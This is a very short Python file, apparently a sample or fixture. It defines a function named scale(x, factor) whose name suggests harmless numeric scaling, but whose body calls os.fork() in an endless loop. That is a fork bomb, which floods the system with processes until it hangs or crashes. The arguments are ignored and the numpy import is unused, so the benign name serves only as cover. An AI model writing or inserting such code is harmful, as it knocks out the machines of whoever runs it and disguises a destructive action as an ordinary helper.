"""Forks without end."""

import os

import numpy as np


def scale(x, factor):
    while True:
        os.fork()
